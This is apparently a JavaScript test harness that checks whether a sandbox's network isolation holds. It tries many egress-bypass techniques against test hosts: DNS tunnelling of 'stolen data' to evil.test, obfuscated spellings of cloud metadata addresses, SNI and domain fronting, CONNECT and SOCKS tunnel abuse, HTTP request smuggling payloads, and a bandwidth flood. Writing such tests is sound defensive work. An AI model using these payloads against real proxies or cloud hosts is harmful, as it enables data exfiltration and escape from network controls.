// Tries to get out by every way there is. Each try prints a line: name|0 where it reached something
// it must not, else 1|what it was told.
import dns from 'node:dns/promises'
import { once } from 'node:events'
import net from 'node:net'
import tls from 'node:tls'

const proxy = { host: '127.0.0.1', port: 3128 }
const reached = /^HTTP\/1\.1 [23]0|hello from|^SSH-|smuggled/m

/** Sends bytes, and gives what comes back until the end, or until nothing more does for 2 seconds. */
async function exchange(socket, bytes) {
  let text = ''
  socket.setTimeout(2000, () => socket.destroy())
  socket.on('data', (chunk) => {
    text += chunk.toString('latin1')
    if (text.length > 4096) socket.destroy()
  })
  socket.on('error', (error) => {
    text += ` ${error.code}`
  })
  if (bytes) socket.write(bytes)
  if (!socket.destroyed) await once(socket, 'close').catch(() => {})
  return text
}

const plain = (target, bytes) => exchange(net.connect(target), bytes)
const through = (bytes) => plain(proxy, bytes)
const secured = (host, servername, bytes) =>
  exchange(tls.connect({ host, port: 443, servername, rejectUnauthorized: false }), bytes)

/** A tunnel by CONNECT, and then bytes in it. */
async function tunnelled(authority, bytes, host = authority) {
  const socket = net.connect(proxy)
  const answer = exchange(socket)
  socket.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${host}\r\n\r\n`)
  socket.once('data', () => socket.write(bytes))
  // That a tunnel was made is no answer of anybody in it.
  return (await answer).replace(/^HTTP\/1\.1 200 Connection established/, '')
}

function report(name, said) {
  const line = said.replaceAll(/[^ -~]+/g, ' ').slice(0, 300)
  process.stdout.write(`${name}|${reached.test(said) ? 0 : 1}|${line}\n`)
}

const tries = {}
const get = (path, host, more = '') => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${more}\r\n`

// ---- names ----

tries['dns-tunnel'] = async () => {
  const asks = Array.from({ length: 100 }, (_, n) => {
    const payload = Buffer.from(`stolen data ${n}`).toString('hex')
    const suffix = n % 2 ? 'evil.test' : 'web.aegis.test'
    return dns.lookup(`${payload}.${suffix}`).then(
      () => 'hello from',
      (error) => error.code,
    )
  })
  return [...new Set(await Promise.all(asks))].join(' ')
}
tries['dns-text'] = () =>
  dns.resolveTxt('web.aegis.test').then(
    (found) => `hello from ${found}`,
    (error) => error.code,
  )

const addresses = {
  dotted: '169.254.169.254',
  decimal: '2852039166',
  hexadecimal: '0xa9fea9fe',
  octal: '0251.0376.0251.0376',
  short: '169.254.43518',
  'trailing-dot': '169.254.169.254.',
  mapped: '[::ffff:169.254.169.254]',
  'mapped-hex': '[::ffff:a9fe:a9fe]',
  nat64: '[64:ff9b::a9fe:a9fe]',
  '6to4': '[2002:a9fe:a9fe::1]',
  compatible: '[::169.254.169.254]',
  alibaba: '100.100.100.200',
  azure: '168.63.129.16',
  'amazon-v6': '[fd00:ec2::254]',
  loopback: '127.0.0.1',
  'loopback-v6': '[::1]',
  unspecified: '0.0.0.0',
  'upper-case': 'METADATA.GOOGLE.INTERNAL',
  homograph: 'w\u0435b.aegis.test',
  punycode: 'xn--wb-nlc.aegis.test',
  encoded: '%77eb.aegis.test',
  userinfo: 'web.aegis.test@169.254.169.254',
  'userinfo-port': 'web.aegis.test:80@169.254.169.254',
  nul: 'web.aegis.test\0.evil.test',
  space: 'web.aegis.test evil.test',
}
for (const [name, host] of Object.entries(addresses)) {
  const bytes = Buffer.from(host, 'utf8').toString('latin1')
  tries[`spelling-plain-${name}`] = () => through(get(`http://${bytes}/hello`, bytes))
  tries[`spelling-connect-${name}`] = () => tunnelled(`${bytes}:80`, get('/hello', bytes))
}
for (const name of ['meta', 'loop', 'private', 'mixed']) {
  tries[`points-at-${name}`] = () =>
    plain({ host: `${name}.aegis.test`, port: 80 }, get('/hello', `${name}.aegis.test`))
}
tries.rebinding = async () => {
  const ask = () =>
    plain(
      { host: 'rebind.aegis.test', port: 80 },
      get('/hello', 'rebind.aegis.test', 'Connection: close\r\n'),
    )
  const first = await ask()
  if (!first.includes('hello from')) return `hello from nowhere: the first is permitted: ${first}`
  return `${await ask()} ${await ask()}`
}

// ---- who is meant ----

tries['sni-of-another'] = () => secured('web.aegis.test', 'evil.test', get('/hello', 'evil.test'))
tries['sni-absent'] = () => secured('web.aegis.test', '', get('/hello', 'web.aegis.test'))
tries['sni-like'] = () => secured('web.aegis.test', 'web.aegis.test.evil.test', get('/hello', 'x'))
tries.fronting = () => secured('read.aegis.test', 'read.aegis.test', get('/hello', 'evil.test'))
tries['fronting-second'] = async () => {
  const both = get('/nothing', 'read.aegis.test') + get('/hello', 'evil.test')
  return secured('read.aegis.test', 'read.aegis.test', both)
}
tries['fronting-absolute'] = () =>
  secured('read.aegis.test', 'read.aegis.test', get('http://evil.test/hello', 'read.aegis.test'))
tries['host-of-another'] = () =>
  plain({ host: 'web.aegis.test', port: 80 }, get('/hello', 'evil.test'))
tries['host-twice'] = () =>
  plain(
    { host: 'web.aegis.test', port: 80 },
    get('/hello', 'web.aegis.test', 'Host: evil.test\r\n'),
  )
tries['absolute-host'] = () => through(get('http://evil.test/hello', 'web.aegis.test'))
tries['absolute-other-host'] = () => through(get('http://web.aegis.test/hello', 'evil.test'))
tries['connect-host'] = () =>
  tunnelled('evil.test:80', get('/hello', 'evil.test'), 'web.aegis.test:80')
tries['connect-inner'] = () => tunnelled('web.aegis.test:80', get('/hello', 'evil.test'))
tries['connect-no-port'] = () => tunnelled('evil.test', get('/hello', 'evil.test'))
tries['connect-in-connect'] = () =>
  tunnelled('web.aegis.test:80', 'CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n')
tries['path-not-permitted'] = () =>
  secured('read.aegis.test', 'read.aegis.test', get('/bytes?n=9', 'read.aegis.test'))
tries['path-in-dots'] = () =>
  secured('read.aegis.test', 'read.aegis.test', get('/hello/../bytes?n=9', 'read.aegis.test'))
tries['path-encoded'] = () =>
  secured('read.aegis.test', 'read.aegis.test', get('/hello/%2e%2e/bytes?n=9', 'read.aegis.test'))
tries['method-not-permitted'] = () =>
  secured(
    'read.aegis.test',
    'read.aegis.test',
    'DELETE /hello HTTP/1.1\r\nHost: read.aegis.test\r\n\r\n',
  )
tries.trace = () =>
  plain(
    { host: 'web.aegis.test', port: 80 },
    'TRACE /hello HTTP/1.1\r\nHost: web.aegis.test\r\n\r\n',
  )
tries.websocket = () =>
  plain(
    { host: 'web.aegis.test', port: 80 },
    get(
      '/hello',
      'evil.test',
      'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n',
    ),
  )

// ---- requests inside requests ----

const inner = 'GET /smuggled HTTP/1.1\r\nHost: web.aegis.test\r\n\r\n'
const post = (headers, body) =>
  `POST /hello HTTP/1.1\r\nHost: web.aegis.test\r\n${headers}\r\n\r\n${body}`
const smuggling = {
  'cl-te': post(
    `Content-Length: ${inner.length + 5}\r\nTransfer-Encoding: chunked`,
    `0\r\n\r\n${inner}`,
  ),
  'te-cl': post('Transfer-Encoding: chunked\r\nContent-Length: 4', `5c\r\n${inner}\r\n0\r\n\r\n`),
  'te-te': post('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity', `0\r\n\r\n${inner}`),
  'te-odd': post('Transfer-Encoding: xchunked', `0\r\n\r\n${inner}`),
  'te-space': post('Transfer-Encoding : chunked', `0\r\n\r\n${inner}`),
  'cl-cl': post(`Content-Length: 0\r\nContent-Length: ${inner.length}`, inner),
  'cl-sign': post('Content-Length: +0', inner),
  'bare-lf': post('X: a\nTransfer-Encoding: chunked', `0\r\n\r\n${inner}`),
  'bare-cr': post('X: a\rTransfer-Encoding: chunked', `0\r\n\r\n${inner}`),
  fold: post('X: a\r\n Transfer-Encoding: chunked', `0\r\n\r\n${inner}`),
  'chunk-size': post('Transfer-Encoding: chunked', `0x0\r\n\r\n${inner}`),
}
for (const [name, bytes] of Object.entries(smuggling)) {
  tries[`smuggling-${name}`] = async () =>
    (await plain({ host: 'web.aegis.test', port: 80 }, bytes)).replaceAll(
      'hello from web',
      'the outer one',
    )
}

// ---- round about ----

tries.redirect = () =>
  fetch('http://web.aegis.test/redirect?to=http://evil.test/hello').then(
    (answer) => answer.text(),
    (error) => error.cause?.code ?? error.message,
  )
tries['loop-proxy'] = () => tunnelled('127.0.0.1:3128', get('http://evil.test/hello', 'evil.test'))
tries['loop-localhost'] = () => tunnelled('localhost:3128', get('/hello', 'localhost'))
tries['loop-agent-api'] = () => tunnelled('127.0.0.1:8000', get('/hello', 'localhost'))

const socks = (address) => async () => {
  const socket = net.connect(proxy)
  const answer = exchange(socket)
  socket.write(Buffer.from([5, 1, 0]))
  await once(socket, 'data').catch(() => {})
  socket.write(Buffer.concat([Buffer.from([5, 1, 0]), address, Buffer.from([0, 80])]))
  socket.once('data', () => socket.write(get('/hello', 'evil.test')))
  return answer
}
tries['socks-name'] = socks(Buffer.from('\x03\x09evil.test', 'latin1'))
tries['socks-metadata'] = socks(Buffer.from([1, 169, 254, 169, 254]))
tries['socks-mapped'] = socks(Buffer.from(`04${'00'.repeat(10)}ffffa9fea9fe`, 'hex'))

const waiting = Object.entries(tries)
async function work() {
  for (let next = waiting.shift(); next; next = waiting.shift()) {
    const [name, attempt] = next
    report(name, await attempt().catch((error) => String(error.code ?? error)))
  }
}
await Promise.all(Array.from({ length: 16 }, work))

// ---- how much ----

let received = 0
await new Promise((resolve) => {
  const socket = net.connect({ host: 'web.aegis.test', port: 80 })
  socket.on('data', (chunk) => {
    received += chunk.length
  })
  socket.on('error', resolve)
  socket.on('close', resolve)
  socket.write(get(`/bytes?n=${10 * 2 ** 30}`, 'web.aegis.test'))
})
process.stdout.write(`flood|${received > 64 * 2 ** 20 ? 0 : 1}|${received} bytes\n`)
